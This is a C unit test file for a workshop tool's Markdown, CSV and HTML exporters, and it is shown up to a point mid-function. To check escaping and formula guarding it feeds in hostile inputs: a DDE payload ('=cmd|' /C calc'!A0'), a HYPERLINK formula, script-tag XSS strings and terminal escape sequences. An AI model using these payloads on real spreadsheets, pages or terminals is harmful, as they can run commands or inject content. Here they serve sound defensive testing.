/* test_export.c - the Markdown, CSV and HTML exports of a fixed session, byte for byte
 * against tests/golden/ (run from the top of the tree), and the facts that must hold
 * whatever the golden files say.
 *
 * MEETLAT_UPDATE_GOLDEN=1 rewrites the golden files from the current output instead of
 * comparing: review the difference (git diff tests/golden) before committing it. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include <cmocka.h>

#include "export.h"
#include "export_fixture.h"
#include "export_impl.h"

#define GOLDEN_DIR "tests/golden/"

struct fixture {
	struct content *c;
	struct session *s;
};

/* Loads the built-in almanac and builds the fixed session on it; its moments are shown in
 * the time zone FIXTURE_TZ. */
static int setup(void **state)
{
	static struct fixture f;
	struct diag d;

	setenv("TZ", FIXTURE_TZ, 1);
	tzset();
	f.c = content_load_builtin(&d);
	f.s = f.c ? fixture_session(f.c) : NULL;
	*state = &f;
	return f.s ? 0 : -1;
}

/* Releases what setup made. */
static int teardown(void **state)
{
	struct fixture *f = *state;

	session_free(f->s);
	content_free(f->c);
	return 0;
}

/* Returns the export of S with the options OPT, on FIXTURE_TODAY, as a malloc'd string. */
static char *export_with(const struct session *s, const struct content *c,
			 const struct export_options *opt)
{
	char *buf = NULL;
	size_t len = 0;
	FILE *out = open_memstream(&buf, &len);

	assert_non_null(out);
	assert_true(session_export_on(out, s, c, opt, FIXTURE_TODAY));
	assert_int_equal(fclose(out), 0);
	assert_int_equal(strlen(buf), len); /* no NUL inside */
	return buf;
}

/* Returns the export of S in FORMAT with separator SEP (0: the default) as a malloc'd string;
 * CSV for a spreadsheet. */
static char *export_text(const struct session *s, const struct content *c,
			 enum export_format format, char sep)
{
	struct export_options opt = { .format = format, .csv_separator = sep };

	return export_with(s, c, &opt);
}

/* Returns the contents of PATH as a malloc'd string, or NULL when it cannot be read. */
static char *read_text(const char *path)
{
	FILE *in = fopen(path, "rb");
	char *buf = NULL;
	long len;

	if (!in)
		return NULL;
	if (fseek(in, 0, SEEK_END) == 0 && (len = ftell(in)) >= 0 && fseek(in, 0, SEEK_SET) == 0)
		buf = malloc((size_t)len + 1);
	if (buf && fread(buf, 1, (size_t)len, in) == (size_t)len) {
		buf[len] = '\0';
	} else {
		free(buf);
		buf = NULL;
	}
	fclose(in);
	return buf;
}

/* Says where ACTUAL first differs from EXPECTED, by line, to find the change quickly. */
static void report_difference(const char *name, const char *expected, const char *actual)
{
	size_t at = 0, line = 1;

	while (expected[at] && expected[at] == actual[at])
		line += expected[at++] == '\n';
	fprintf(stderr, "%s differs from line %zu on:\n  golden: %.80s\n  actual: %.80s\n"
			"(MEETLAT_UPDATE_GOLDEN=1 rewrites the golden files)\n",
		name, line, expected + at, actual + at);
}

/* Compares the export in FORMAT, with the default options, with the golden file NAME, or
 * rewrites it on request. */
static void check_golden(void **state, enum export_format format, const char *name)
{
	struct fixture *f = *state;
	char path[256];
	char *actual = export_text(f->s, f->c, format, 0), *expected;
	const char *update = getenv("MEETLAT_UPDATE_GOLDEN");

	snprintf(path, sizeof(path), GOLDEN_DIR "%s", name);
	if (update && strcmp(update, "1") == 0) {
		FILE *out = fopen(path, "wb");

		assert_non_null(out);
		assert_true(fputs(actual, out) >= 0);
		assert_int_equal(fclose(out), 0);
		fprintf(stderr, "rewrote %s\n", path);
	}
	expected = read_text(path);
	if (!expected)
		fail_msg("cannot read %s (run from the top of the tree)", path);
	if (strcmp(expected, actual) != 0)
		report_difference(path, expected, actual);
	assert_string_equal(expected, actual);
	free(expected);
	free(actual);
}

/* The Markdown export is the golden one. */
static void test_golden_md(void **state)
{
	check_golden(state, EXPORT_MD, "session.md");
}

/* The CSV export is the golden one: for a spreadsheet, ';' for the Dutch almanac. */
static void test_golden_csv(void **state)
{
	check_golden(state, EXPORT_CSV, "session.csv");
}

/* The HTML export is the golden one. */
static void test_golden_html(void **state)
{
	check_golden(state, EXPORT_HTML, "session.html");
}

/* Returns the number of pipes in LINE (up to its newline) that are not backslash-escaped. */
static size_t md_pipes(const char *line)
{
	size_t n = 0;

	for (; *line && *line != '\n'; line++) {
		if (*line == '\\' && line[1] && line[1] != '\n')
			line++;
		else if (*line == '|')
			n++;
	}
	return n;
}

/* Every line of a Markdown table has as many cell borders as its header: no text breaks
 * a table. Returns the number of table lines seen. */
static size_t check_md_tables(const char *md)
{
	size_t lines = 0, columns = 0;

	for (const char *line = md; *line; line = strchr(line, '\n') + 1) {
		assert_non_null(strchr(line, '\n'));
		if (*line != '|') {
			columns = 0;
			continue;
		}
		if (columns == 0)
			columns = md_pipes(line);
		assert_int_equal(md_pipes(line), columns);
		lines++;
	}
	return lines;
}

/* Markdown: tables stay whole, and the hostile note is escaped but readable. */
static void test_md_facts(void **state)
{
	struct fixture *f = *state;
	char *md = export_text(f->s, f->c, EXPORT_MD, ',');
	size_t table_lines = check_md_tables(md);

	/* scores: header, rule, 10 rows + 1 kept; actions: 2 + 4; time: 2 + 23 steps + total */
	assert_int_equal(table_lines, (2 + 11) + (2 + 4) + (2 + 23 + 1));
	assert_non_null(strstr(md, "| Eerst \\| dan \\<script>alert(\"x\")\\</script> \\& 'citaat' "
				   "<br>tweede regel: één; twee, drie \\\\ schuin |"));
	assert_non_null(strstr(md, "| \\- begint met een streepje, \\*nadruk\\* \\_ook\\_ "
				   "\\`code\\` \\[link\\](x) \\#1. \\~weg\\~ |"));
	assert_non_null(strstr(md, "| 1\\. Terug naar fase 2"));
	assert_non_null(strstr(md, "| 2.5 |"));
	assert_non_null(strstr(md, "| (kept from the file) | oude-rij |"));
	assert_non_null(strstr(md, "## Not scored\n\n- interactie: conversatie\n"));
	assert_null(strstr(md, "- interactie: context\n")); /* a target alone is scored */
	free(md);
}

/* Returns true when TEXT holds NEEDLE, ignoring ASCII case. */
static bool contains_nocase(const char *text, const char *needle)
{
	size_t n = strlen(needle);

	for (; *text; text++) {
		size_t i = 0;

		while (i < n && text[i] && (text[i] | 0x20) == (needle[i] | 0x20))
			i++;
		if (i == n)
			return true;
	}
	return false;
}

/* HTML: one page that fetches nothing and runs nothing, every text escaped, made to print. */
static void test_html_facts(void **state)
{
	static const char *const banned[] = { "<script", "http:", "https:", "<link", "src=",
					      "href=", "@import", "<iframe", "<object", "<img" };
	struct fixture *f = *state;
	char *html = export_text(f->s, f->c, EXPORT_HTML, ',');
	const char *url;

	assert_memory_equal(html, "<!DOCTYPE html>\n", 16);
	for (size_t i = 0; i < sizeof(banned) / sizeof(banned[0]); i++)
		assert_false(contains_nocase(html, banned[i]));
	for (url = strstr(html, "url("); url; url = strstr(url + 1, "url("))
		assert_memory_equal(url, "url(#arrow)", 11); /* references inside the page only */
	assert_non_null(strstr(html, "<meta charset=\"utf-8\">"));
	assert_non_null(strstr(html, "<title>Workshop sociale media – meetlat report</title>"));
	assert_non_null(strstr(html, "@page { size: A4"));
	assert_non_null(strstr(html, "@media print"));
	/* a word too long for its column is hyphenated by the browser, in the page's language */
	assert_non_null(strstr(html, "<html lang=\"en\">"));
	assert_non_null(strstr(html, "hyphens: auto;"));
	assert_non_null(strstr(html, "Eerst | dan &lt;script&gt;alert(&quot;x&quot;)"
				     "&lt;/script&gt; &amp; &#39;citaat&#39;\n"
				     "tweede regel: één; twee, drie \\ schuin"));
	assert_non_null(strstr(html, "@team: &lt;b&gt;vet&lt;/b&gt; | pipe"));
	/* the chart: content is at 3 (a disc in the third column) heading for 4 (a ring) */
	assert_non_null(strstr(html, "<svg class=\"chart\""));
	assert_non_null(strstr(html, "<circle cx=\"470\" cy=\"73\" r=\"6\" fill="));
	assert_non_null(strstr(html, "<circle cx=\"550\" cy=\"73\" r=\"10\" fill=\"none\""));
	assert_non_null(strstr(html, ">current phase</text>"));
	assert_non_null(strstr(html, ">target phase</text>"));
	free(html);
}

/* What a pass over a CSV text found. */
struct csv_probe {
	size_t records, short_records; /* records, and those without CSV_FIELDS fields */
	size_t want_record, want_field;
	char *found; /* the wanted field, malloc'd */
};

/* The columns of the CSV, as the tests use them. */
enum {
	CSV_SESSION_TITLE = 0, CSV_SESSION_DATE = 3, CSV_KIND = 4, CSV_MEDIAN = 10,
	CSV_NOTE = 17, CSV_ACTION = 18, CSV_OWNER = 19, CSV_FIELDS = 22
};

/* The records of the fixed session's CSV: the header, 11 rows, 4 actions. */
enum { FIXTURE_RECORDS = 1 + 11 + 4 };

static const char bom[] = "\xEF\xBB\xBF";

/* Ends a field of LEN bytes at FIELD: keeps it when it is the one P wants. */
static void csv_field_end(struct csv_probe *p, size_t field, const char *text, size_t len)
{
	if (p->records == p->want_record && field == p->want_field && !p->found) {
		p->found = malloc(len + 1);
		assert_non_null(p->found);
		memcpy(p->found, text, len);
		p->found[len] = '\0';
	}
}

/* Ends a record at the CRLF: counts it, and whether it has all the columns. */
static void csv_record_end(struct csv_probe *p, size_t *fields, char after_cr)
{
	assert_int_equal(after_cr, '\n');
	p->short_records += *fields != CSV_FIELDS;
	p->records++;
	*fields = 0;
}

/* Reads CSV (RFC 4180, separator SEP, lines ending in CRLF) as a strict reader would, failing
 * the test on anything malformed, and fills P. */
static void csv_read(const char *csv, char sep, struct csv_probe *p)
{
	char *field = malloc(strlen(csv) + 1);
	size_t len = 0, fields = 0;
	bool quoted = false;

	assert_non_null(field);
	for (const char *c = csv; *c; c++) {
		if (*c == '"' && quoted && c[1] == '"') {
			field[len++] = *c++;
		} else if (*c == '"') {
			/* a quote opens a field, or closes it right before a separator or CRLF */
			assert_true(quoted ? (c[1] == sep || c[1] == '\r') : len == 0);
			quoted = !quoted;
		} else if (quoted || (*c != sep && *c != '\r')) {
			assert_true(quoted || *c != '\n'); /* a bare LF only inside quotes */
			field[len++] = *c;
		} else {
			csv_field_end(p, fields++, field, len);
			len = 0;
			if (*c == '\r')
				csv_record_end(p, &fields, *++c);
		}
	}
	assert_false(quoted);
	assert_int_equal(len + fields, 0); /* the last line ended in CRLF */
	free(field);
}

/* Returns field FIELD of record RECORD of CSV (after its byte order mark, if any), read with
 * separator SEP, after checking that it has RECORDS records and every one all columns. */
static char *csv_get(const char *csv, char sep, size_t records, size_t record, size_t field)
{
	struct csv_probe p = { .want_record = record, .want_field = field };

	if (strncmp(csv, bom, 3) == 0)
		csv += 3;
	csv_read(csv, sep, &p);
	assert_int_equal(p.records, records);
	assert_int_equal(p.short_records, 0);
	assert_non_null(p.found);
	return p.found;
}

/* Asserts that field FIELD of record RECORD of the fixed session's CSV is WANT. */
static void assert_fixture_field(const char *csv, char sep, size_t record, size_t field,
				 const char *want)
{
	char *got = csv_get(csv, sep, FIXTURE_RECORDS, record, field);

	assert_string_equal(got, want);
	free(got);
}

/* Returns a malloc'd copy of TEXT after a ' when GUARD. */
static char *guarded(const char *text, bool guard)
{
	char *out = malloc(strlen(text) + 2);

	assert_non_null(out);
	snprintf(out, strlen(text) + 2, "%s%s", guard ? "'" : "", text);
	return out;
}

/* CSV with either separator, for a spreadsheet and raw: every line has every column and the
 * session's title, organisation, group and date; texts read back exactly, after a ' when they
 * would be a formula (and only for a spreadsheet); a byte order mark only for a spreadsheet;
 * with ';' the median has a decimal comma. */
static void test_csv_facts(void **state)
{
	static const char *const meta[] = { "Workshop sociale media", "Gemeente Voorbeeld",
					    "Team communicatie", "2026-11-26" };
	struct fixture *f = *state;
	const char seps[] = { ',', ';' };

	for (size_t i = 0; i < 4; i++) {
		struct export_options opt = { EXPORT_CSV, seps[i % 2], i >= 2 };
		char *csv = export_with(f->s, f->c, &opt);
		char sep = seps[i % 2], header[64];
		char *formula = guarded("=Terugkoppeling aan het MT\nen aan de raad", !opt.csv_raw);
		char *at = guarded(fixture_actions[3].text, !opt.csv_raw);
		char *dash = guarded(fixture_rows[1].note, !opt.csv_raw);
		const char *body = opt.csv_raw ? csv : csv + 3;

		/* record 0 is the header, 1-11 the rows, 12-15 the actions */
		snprintf(header, sizeof(header), "session_title%csession_organisation%c", sep, sep);
		assert_memory_equal(body, header, strlen(header));
		assert_int_equal(strncmp(csv, bom, 3) == 0, !opt.csv_raw);
		assert_null(strstr(csv + 1, bom)); /* never a second one */
		assert_fixture_field(csv, sep, 1, CSV_NOTE, FIXTURE_NOTE);
		assert_fixture_field(csv, sep, 13, CSV_OWNER, "Jansen, \"Ops\" & Co");
		assert_fixture_field(csv, sep, 14, CSV_ACTION, formula);
		assert_fixture_field(csv, sep, 15, CSV_ACTION, at);
		assert_fixture_field(csv, sep, 2, CSV_NOTE, dash); /* holds ',' */
		assert_fixture_field(csv, sep, 2, CSV_MEDIAN, sep == ';' ? "2,5" : "2.5");
		assert_fixture_field(csv, sep, 2, CSV_NOTE + 1, ""); /* action: empty for a row */
		assert_fixture_field(csv, sep, 7, CSV_NOTE, fixture_rows[5].note); /* holds ';' */
		for (size_t r = 1; r < FIXTURE_RECORDS; r++)
			for (size_t m = 0; m < 4; m++)
				assert_fixture_field(csv, sep, r, CSV_SESSION_TITLE + m, meta[m]);
		assert_fixture_field(csv, sep, 11, CSV_KIND, "row");
		assert_fixture_field(csv, sep, 12, CSV_KIND, "action");
		assert_true(csv[strlen(csv) - 2] == '\r' && csv[strlen(csv) - 1] == '\n');
		free(formula);
		free(at);
		free(dash);
		free(csv);
	}
}

/* The guard's rule on its own: = + - @ tab CR at the start, or = + - @ after blanks, with any
 * ' in front skipped; nothing else. */
static void test_needs_guard(void **state)
{
	static const char *const formulas[] = {
		"=1+1", "+31", "-5", "-5 ideeën", "@SUM(A1)", "\t", "\tx", "\r", "\rx", " =1",
		"  +1", "\t-1", "\r\n@x", "\n=1", "'=1", "''-1", "' @x", "'\tx",
	};
	static const char *const texts[] = {
		"", "a", "a=b", "1-2", "5", "'", "'a", "''", " a", "\n", " ", "–5", "＝1",
		"x\n=1",
	};

	(void)state;
	for (size_t i = 0; i < sizeof(formulas) / sizeof(formulas[0]); i++)
		if (!export_csv_needs_guard(formulas[i]))
			fail_msg("not guarded: \"%s\"", formulas[i]);
	for (size_t i = 0; i < sizeof(texts) / sizeof(texts[0]); i++)
		if (export_csv_needs_guard(texts[i]))
			fail_msg("guarded: \"%s\"", texts[i]);
}

/* A text as typed, and what a CSV for a spreadsheet and a raw CSV must give back for it. */
struct guard_case {
	const char *typed, *spreadsheet, *raw; /* raw NULL: the text as typed */
};

static const struct guard_case guard_cases[] = {
	{ "=HYPERLINK(\"http://example.org/?\"&A1,\"click\")",
	  "'=HYPERLINK(\"http://example.org/?\"&A1,\"click\")", NULL },
	{ "+31 6 1234 5678", "'+31 6 1234 5678", NULL },
	{ "-5 ideeën", "'-5 ideeën", NULL },
	{ "-5", "'-5", NULL },
	{ "@SUM(A1:A9)", "'@SUM(A1:A9)", NULL },
	{ "=1;2,3", "'=1;2,3", NULL }, /* quoted with either separator, the ' inside */
	{ " =1+1", "' =1+1", NULL },
	{ "  \n=1+1", "'  \n=1+1", NULL },
	{ "\t=1+1", "' =1+1", " =1+1" },   /* a tab is a space in every format */
	{ "\tmet tab", " met tab", " met tab" },
	{ "\r=1+1", "?=1+1", "?=1+1" },    /* a CR is replaced: no formula left */
	{ "'=1+1", "''=1+1", NULL },       /* so that one ' can be taken off again */
	{ "'citaat'", "'citaat'", NULL },
	{ "a=b-c", "a=b-c", NULL },
	{ "1-2", "1-2", NULL },
	{ "–5", "–5", NULL },
};

enum { GUARD_CASES = sizeof(guard_cases) / sizeof(guard_cases[0]) };

/* Returns a session on C titled and with an owner like a formula, with one action per guard
 * case. */
static struct session *guard_session(const struct content *c)
{
	struct session *s = session_new(c, "=cmd|' /C calc'!A0");
	const char *why;

	assert_non_null(s);
	for (size_t i = 0; i < GUARD_CASES; i++) {
		struct action_fields a = { guard_cases[i].typed, NULL, "@eigenaar", NULL };

		assert_true(session_action_add(s, c, &a, &why) == (long)i);
	}
	return s;
}

/* Each case reads back guarded in a CSV for a spreadsheet and as typed in a raw CSV, with
 * either separator; the title and owner, single-line texts, too. */
static void test_csv_guard(void **state)
{
	struct fixture *f = *state;
	struct session *s = guard_session(f->c);
	size_t rows = f->c->n_dimensions, records = 1 + rows + GUARD_CASES;

	for (int i = 0; i < 4; i++) {
		struct export_options opt = { EXPORT_CSV, i % 2 ? ';' : ',', i >= 2 };
		char *csv = export_with(s, f->c, &opt);
		char sep = opt.csv_separator;

		for (size_t k = 0; k < GUARD_CASES; k++) {
			const struct guard_case *g = &guard_cases[k];
			const char *raw = g->raw ? g->raw : g->typed;
			const char *want = opt.csv_raw ? raw : g->spreadsheet;
			char *got = csv_get(csv, sep, records, 1 + rows + k, CSV_ACTION);

			if (strcmp(got, want) != 0)
				fail_msg("case %zu, %s: \"%s\", expected \"%s\"", k,
					 opt.csv_raw ? "raw" : "spreadsheet", got, want);
			free(got);
		}
		for (size_t r = 1; r < records; r++) {
			char *title = csv_get(csv, sep, records, r, CSV_SESSION_TITLE);
			char *owner = csv_get(csv, sep, records, r, CSV_OWNER);
			bool action = r > rows;

			assert_string_equal(title, opt.csv_raw ? s->meta[META_TITLE] :
						   "'=cmd|' /C calc'!A0");
			assert_string_equal(owner, !action ? "" : opt.csv_raw ? "@eigenaar" :
						   "'@eigenaar");
			free(title);
			free(owner);
		}
		free(csv);
	}
	session_free(s);
}

/* Returns content with two phases in LANGUAGE (NULL: none given). */
static struct content *content_in(const char *language)
{
	char yaml[512];
	struct diag d;
	struct content *c;
	int n = snprintf(yaml, sizeof(yaml),
			 "meetlat_content: 1\nid: t\ntitle: T\n%s%s%s"
			 "phases:\n"
			 "  - {number: 1, name: a, summary: s, intro: i}\n"
			 "  - {number: 2, name: b, summary: s, intro: i}\n"
			 "model:\n"
			 "  - group: g\n"
			 "    dimensions:\n"
			 "      - {id: r, name: R, behaviour: {1: x, 2: y}}\n",
			 language ? "language: \"" : "", language ? language : "",
			 language ? "\"\n" : "");

	assert_true(n > 0 && (size_t)n < sizeof(yaml));
	c = content_load_buffer("t.yaml", yaml, (size_t)n, &d);
	assert_non_null(c);
	return c;
}

/* Without --separator the CSV has ';' when the content is Dutch and ',' otherwise, and the
 * median's decimal sign follows; a separator asked for wins either way. */
static void test_default_separator(void **state)
{
	static const struct {
		const char *language;
		char asked, expected;
	} cases[] = {
		{ "nl", 0, ';' },   { "nl-BE", 0, ';' }, { "NL", 0, ';' }, { "en", 0, ',' },
		{ NULL, 0, ',' },   { "nld", 0, ',' },   { "nl", ',', ',' }, { "en", ';', ';' },
	};
	static const char dutch[] = "\xEF\xBB\xBFsession_title;session_organisation;";
	struct fixture *f = *state;
	char *builtin = export_text(f->s, f->c, EXPORT_CSV, 0);

	assert_memory_equal(builtin, dutch, sizeof(dutch) - 1);
	assert_fixture_field(builtin, ';', 2, CSV_MEDIAN, "2,5");
	free(builtin);
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		struct content *c = content_in(cases[i].language);
		struct session *s = session_new(c, "T");
		const char *why;
		char *csv, header[32];

		assert_non_null(s);
		assert_true(session_vote_add(s, c, 0, 1, &why));
		assert_true(session_vote_add(s, c, 0, 2, &why));
		csv = export_text(s, c, EXPORT_CSV, cases[i].asked);
		snprintf(header, sizeof(header), "%ssession_title%c", bom, cases[i].expected);
		if (strncmp(csv, header, strlen(header)) != 0)
			fail_msg("language %s, separator '%c': %.40s", cases[i].language,
				 cases[i].asked, csv);
		assert_non_null(strstr(csv, cases[i].expected == ';' ? ";1,5;" : ",1.5,"));
		free(csv);
		session_free(s);
		content_free(c);
	}
}

/* Control characters in any text never reach the output: they become '?'. */
static void test_control_characters(void **state)
{
	struct fixture *f = *state;
	struct session *s = session_new(f->c, "Titel\x1b]0;pwned\x07");
	struct action_fields a = { "actie\x1b[2J", NULL, "eig\xc2\x9b" "31m", NULL };
	const char *why;

	assert_non_null(s);
	assert_true(session_set_note(s, 0, "noot\x1b" "c rood\xe2\x80\xae omgekeerd", &why));
	assert_true(session_action_add(s, f->c, &a, &why) == 0);
	for (int format = 0; format < EXPORT_FORMAT_COUNT; format++) {
		char *out = export_text(s, f->c, (enum export_format)format, ',');

		assert_null(strchr(out, '\x1b'));
		assert_null(strchr(out, '\x07'));
		assert_null(strstr(out, "\xc2\x9b"));
		assert_null(strstr(out, "\xe2\x80\xae"));
		assert_non_null(strstr(out, "noot?c rood? omgekeerd"));
		free(out);
	}
	session_free(s);
}

/* A new session (no votes, no actions, no time) exports too and says what is missing. */
static void test_empty_session(void **state)
{
	struct fixture *f = *state;
	struct session *s = session_new(f->c, "Leeg");
	char *md, *html, *csv, line[128];

	assert_non_null(s);
	snprintf(line, sizeof(line), "\r\nLeeg,,,%s,row,interactie,content,content,0,"
		 "1:0 2:0 3:0 4:0,,0,no,,,,,,,,,\r\n", s->meta[META_DATE]); /* dated today */
	md = export_text(s, f->c, EXPORT_MD, ',');
	html = export_text(s, f->c, EXPORT_HTML, ',');
	csv = export_text(s, f->c, EXPORT_CSV, ',');
	assert_non_null(strstr(md, "No actions were recorded."));
	assert_non_null(strstr(md, "- organisatie: mensen\n"));
	assert_non_null(strstr(md, "| interactie | content | 0 | — | — | — | — | — |\n"));
	assert_int_equal(check_md_tables(md), (2 + 10) + (2 + 23 + 1));
	assert_non_null(strstr(html, "not scored</text>"));
	assert_non_null(strstr(csv, line));
	free(md);
	free(html);
	free(csv);
	session_free(s);
}

#define E10 "éééééééééé"
#define E40 E10 E10 E10 E10

/* Another content: two phases, and a row name that is long, multibyte and full of markup;
 * the chart cuts the name between characters, every format escapes it. */
static void test_other_content(void **state)
{
	static const char yaml[] =
		"meetlat_content: 1\nid: t\ntitle: T\n"
		"phases:\n"
		"  - {number: 1, name: \"<a>\", summary: s, intro: i}\n"
		"  - {number: 2, name: b, summary: s, intro: i}\n"
		"model:\n"
		"  - group: g\n"
		"    dimensions:\n"
		"      - {id: r, name: \"<&>" E40 "\", "
		"behaviour: {1: x, 2: y}}\n";
	struct diag d;
	struct content *c = content_load_buffer("t.yaml", yaml, sizeof(yaml) - 1, &d);
	struct session *s = c ? session_new(c, "T") : NULL;
	const char *why;
	char *html, *md;

	(void)state;
	assert_non_null(s);
	assert_true(session_set_current(s, c, 0, 1, &why));
	html = export_text(s, c, EXPORT_HTML, ',');
	md = export_text(s, c, EXPORT_MD, ',');
	assert_non_null(strstr(html, "viewBox=\"0 0 440 ")); /* two phase columns */
	/* the chart shows 36 characters of the 43 */
	assert_non_null(strstr(html, ">&lt;&amp;&gt;" E10 E10 E10 "ééé…</text>"));
	assert_non_null(strstr(html, "<td>&lt;&amp;&gt;" E40 "</td>"));
	assert_non_null(strstr(html, "<td class=\"phase\">1: &lt;a&gt;</td>"));
	assert_non_null(strstr(md, "| \\<\\&>" E40 " |"));
	assert_non_null(strstr(md, "| 1: \\<a> |"));
	free(html);
	free(md);
	session_free(s);
	content_free(c);
}

/* Sets the time zone to ZONE (POSIX rules or a zone name) for what follows. */
static void use_zone(const char *zone)
{
	assert_int_equal(setenv("TZ", zone, 1), 0);
	tzset();
}

/* A moment of a session file is shown in the reader's local time, in the style asked for:
 * UTC and any offset are converted, across summer time and the turn of a day and a year. */
static void test_local_time(void **state)
{
	static const char ams[] = FIXTURE_TZ;
	static const struct {
		const char *zone, *stamp, *dutch, *english;
	} cases[] = {
		{ ams, "2026-12-01T12:05:00Z", "1 dec. 2026 13:05", "1 Dec 2026 13:05" },
		{ ams, "2026-11-26T14:03:00+01:00", "26 nov. 2026 14:03", "26 Nov 2026 14:03" },
		{ ams, "2026-07-01T12:05:09+02:00", "1 jul. 2026 12:05", "1 Jul 2026 12:05" },
		{ ams, "2026-07-01T10:05:00Z", "1 jul. 2026 12:05", "1 Jul 2026 12:05" },
		{ ams, "2026-11-26T08:03:00-05:00", "26 nov. 2026 14:03", "26 Nov 2026 14:03" },
		{ ams, "2026-12-31T23:30:00Z", "1 jan. 2027 00:30", "1 Jan 2027 00:30" },
		{ ams, "2024-02-29T23:59:59+00:00", "1 mrt. 2024 00:59", "1 Mar 2024 00:59" },
		{ "UTC0", "2026-11-26T14:03:00+01:00", "26 nov. 2026 13:03", "26 Nov 2026 13:03" },
		{ "UTC0", "2026-03-01T00:30:00+01:00", "28 feb. 2026 23:30", "28 Feb 2026 23:30" },
		{ "EST5EDT,M3.2.0,M11.1.0", "2026-05-15T12:00:00Z", "15 mei 2026 08:00",
		  "15 May 2026 08:00" },
	};
	char out[EXPORT_MOMENT_SIZE];

	(void)state;
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		use_zone(cases[i].zone);
		assert_true(export_local_time(cases[i].stamp, DATE_DUTCH, out, sizeof(out)));
		assert_string_equal(out, cases[i].dutch);
		assert_true(export_local_time(cases[i].stamp, DATE_ENGLISH, out, sizeof(out)));
		assert_string_equal(out, cases[i].english);
	}
	use_zone(FIXTURE_TZ);
}

/* What is not a moment as a session file holds it is refused, with an empty result; so is a
 * result that does not fit. */
static void test_local_time_refused(void **state)
{
	static const char *const refused[] = {
		"", "2026-11-26", "2026-11-26T14:03:00", "2026-11-26 14:03:00Z",
		"2026-11-26T24:00:00Z", "2026-11-26T14:60:00Z", "2026-02-30T10:00:00Z",
		"2026-11-26T14:03:00+1:00", "2026-11-26T14:03:00+01:60",
		"2026-11-26T14:03:00+24:00",
		"2026-11-26T14:03:00Zx", "2026-11-26T14:03:00+01:00x", "2026-11-26T14:03Z",
		"2026-11-26T1a:03:00Z", "1899-12-31T12:00:00Z",
	};
	char out[EXPORT_MOMENT_SIZE], small[8];

	(void)state;
	for (size_t i = 0; i < sizeof(refused) / sizeof(refused[0]); i++) {
		memcpy(out, "x", 2);
		if (export_local_time(refused[i], DATE_DUTCH, out, sizeof(out)))
			fail_msg("accepted: \"%s\" as \"%s\"", refused[i], out);
		assert_string_equal(out, "");
	}
	assert_false(export_local_time("2026-12-01T12:05:00Z", DATE_DUTCH, small, sizeof(small)));
	assert_string_equal(small, "");
}

/* Returns a session on C whose only action is due DUE (done when DONE), with SECONDS spent on
 * the first step and 23 on the third. */
static struct session *dated_session(const struct content *c, const char *due, bool done,
				     unsigned long seconds)
{
	struct session *s = session_new(c, "Datums");
	struct action_fields a = { "Rooster maken", NULL, "Piet", due };
	const char *why;

	assert_non_null(s);
	snprintf(s->created, sizeof(s->created), "2026-12-31T23:30:00Z");
	assert_true(session_action_add(s, c, &a, &why) == 0);
	if (done)
		assert_true(session_action_toggle(s, 0, &why));
	assert_true(session_tick(s, 0, seconds, &why));
	assert_true(session_tick(s, 2, 23, &why));
	return s;
}

/* Returns the export of S in FORMAT on the day TODAY as a malloc'd string. */
static char *export_on(const struct session *s, const struct content *c,
		       enum export_format format, const char *today)
{
	struct export_options opt = { .format = format, .csv_separator = ',' };
	char *buf = NULL;
	size_t len = 0;
	FILE *out = open_memstream(&buf, &len);

	assert_non_null(out);
	assert_true(session_export_on(out, s, c, &opt, today));
	assert_int_equal(fclose(out), 0);
	return buf;
}

/* Markdown and HTML show a due date as the language writes it, the CSV keeps it ISO; an open
 * action due before the day of the export is overdue, on that day it is still open, a done
 * one is done; and the summary counts them. */
static void test_due_and_overdue(void **state)
{
	static const struct {
		const char *due, *today;
		bool done;
		const char *state, *summary;
	} cases[] = {
		{ "2026-11-30", "2026-12-01", false, "overdue", "done: 0, overdue: 1." },
		{ "2026-11-30", "2026-11-30", false, "open", "done: 0, overdue: 0." },
		{ "2026-11-30", "2026-12-01", true, "done", "done: 1, overdue: 0." },
		{ "", "2026-12-01", false, "open", "done: 0, overdue: 0." },
	};
	struct fixture *f = *state;

	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		struct session *s = dated_session(f->c, cases[i].due, cases[i].done, 300);
		char *md = export_on(s, f->c, EXPORT_MD, cases[i].today);
		char *html = export_on(s, f->c, EXPORT_HTML, cases[i].today);
		char *csv = export_on(s, f->c, EXPORT_CSV, cases[i].today);
		char line[128], cell[128], field[64];
		bool dated = cases[i].due[0] != '\0';

		snprintf(line, sizeof(line), "| Piet | %s | %s |", dated ? "30 Nov 2026" : "—",
			 cases[i].state);
		snprintf(cell, sizeof(cell), "<td class=\"date\">%s</td><td>%s</td>",
			 dated ? "30 Nov 2026" : "—", cases[i].state);
		snprintf(field, sizeof(field), ",Piet,%s,%s\r\n", cases[i].due,
			 cases[i].done ? "yes" : "no");
		assert_non_null(strstr(md, line));
		assert_non_null(strstr(html, cell));
		assert_non_null(strstr(csv, field));
		assert_non_null(strstr(md, "1 action was agreed; "));
		assert_non_null(strstr(md, cases[i].summary));
		free(md);
		free(html);
		free(csv);
		session_free(s);
	}
}

/* The time spent reads as a clock, minutes:seconds and from an hour on hours:minutes:seconds,
 * beside the minutes planned, in the table and in the summary below it; the moment a session
 * was created is shown in local time. */
static void test_durations(void **state)
{
	struct fixture *f = *state;
	struct session *s = dated_session(f->c, "", false, 3725);
	char *md = export_on(s, f->c, EXPORT_MD, "2026-12-01");
	char *html = export_on(s, f->c, EXPORT_HTML, "2026-12-01");

	assert_non_null(strstr(md, " | 5 min | 1:02:05 |\n"));
	assert_non_null(strstr(md, " | 5 min | 0:23 |\n"));
	assert_non_null(strstr(md, " | 10 min | 0:00 |\n"));
	assert_non_null(strstr(md, "|  | Total | 180 min | 1:02:28 |\n"));
	assert_non_null(strstr(md, "\nIn all 180 min planned, 1:02:28 spent (minutes:seconds, "));
	assert_non_null(strstr(html, "<td class=\"num\">0:23</td>"));
	assert_non_null(strstr(md, "- **Created:** 1 Jan 2027 00:30\n")); /* FIXTURE_TZ */
	assert_null(strstr(md, "T23:30:00Z"));
	free(md);
	free(html);
	session_free(s);
}

/* The three format names are known, anything else is not. */
static void test_format_names(void **state)
{
	(void)state;
	assert_int_equal(export_format_from_name("md"), EXPORT_MD);
	assert_int_equal(export_format_from_name("csv"), EXPORT_CSV);
	assert_int_equal(export_format_from_name("html"), EXPORT_HTML);
